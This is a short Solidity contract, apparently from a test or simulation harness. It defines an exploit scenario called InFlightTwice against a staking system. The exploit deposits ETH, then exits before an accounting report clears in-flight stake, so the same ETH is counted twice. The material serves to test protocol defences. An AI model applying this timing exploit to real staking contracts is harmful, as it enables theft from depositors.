// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title Out while the same ETH counts twice
/// @notice Waits for stake to come back, and leaves before the report that takes it off the list of what is on its way.
contract InFlightTwice is Exploit {
    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number == 0) _deposit(address(this).balance);
        if (number == 2) _exit(_shares());
    }
}
